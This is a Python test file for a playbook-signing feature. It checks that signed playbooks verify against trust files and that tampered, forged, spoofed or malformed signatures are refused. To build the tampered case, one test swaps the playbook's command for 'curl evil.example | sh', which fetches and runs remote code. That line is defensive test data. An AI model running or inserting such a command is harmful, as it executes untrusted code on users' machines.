"""Signed playbooks, pure: sign with the organisation key, verify against trust files."""

from __future__ import annotations

import json

from cobrowse.trust.credential import OrgKey
from cobrowse.trust.playbook_signature import SignatureStatus, sign_playbook, verify_playbook

NOW = 1_764_979_200
PLAYBOOK = b"# Reset the VPN\n\n## Restart the client\n\n```sh\nsudo systemctl restart acme-vpn\n```\n"


def org(name: str, byte: int) -> OrgKey:
    return OrgKey.generate(name, lambda n: bytes([byte]) * n)


def test_a_signed_playbook_verifies_against_the_trust_file() -> None:
    acme = org("ACME", 1)
    sig = json.dumps(sign_playbook(acme, PLAYBOOK, "reset-vpn.md", NOW)).encode()
    verdict = verify_playbook(PLAYBOOK, sig, [org("Other", 2).trust(NOW), acme.trust(NOW)])
    assert verdict.status is SignatureStatus.VERIFIED and verdict.org == "ACME" and not verdict.refused
    assert verdict.message("reset-vpn.md") == "reset-vpn.md: signed by ACME (verified against your trust file)"


def test_unsigned_and_unknown_organisations_are_not_verified_but_not_refused() -> None:
    acme = org("ACME", 1)
    assert verify_playbook(PLAYBOOK, None, [acme.trust(NOW)]).status is SignatureStatus.UNSIGNED
    sig = json.dumps(sign_playbook(acme, PLAYBOOK, "reset-vpn.md", NOW)).encode()
    verdict = verify_playbook(PLAYBOOK, sig, [org("Other", 2).trust(NOW)])
    assert verdict.status is SignatureStatus.UNKNOWN_ORG and not verdict.refused
    assert "NOT verified" in verdict.message() and "Other" in verdict.message()


def test_tampering_is_refused_with_the_reason() -> None:
    acme = org("ACME", 1)
    trusted = [acme.trust(NOW)]
    signature = sign_playbook(acme, PLAYBOOK, "reset-vpn.md", NOW)
    sig = json.dumps(signature).encode()
    changed = PLAYBOOK.replace(b"restart acme-vpn", b"curl evil.example | sh")
    verdict = verify_playbook(changed, sig, trusted)
    assert verdict.refused and "changed after ACME signed it" in verdict.message()
    # the hash updated to the new bytes, but nobody can sign that with ACME's key
    import hashlib

    forged = {**signature, "sha256": hashlib.sha256(changed).hexdigest()}
    verdict = verify_playbook(changed, json.dumps(forged).encode(), trusted)
    assert verdict.refused and "does not verify under ACME's key" in verdict.detail
    # a signature by another key claiming to be ACME's key id
    mallory = sign_playbook(org("ACME", 3), changed, "reset-vpn.md", NOW)
    verdict = verify_playbook(changed, json.dumps({**mallory, "key_id": acme.key_id}).encode(), trusted)
    assert verdict.refused
    for damaged in (b"not json", b"{}", b'{"format": "x"}', b"x" * 9000,
                    json.dumps({**signature, "signature": "%%%"}).encode()):
        assert verify_playbook(PLAYBOOK, damaged, trusted).refused
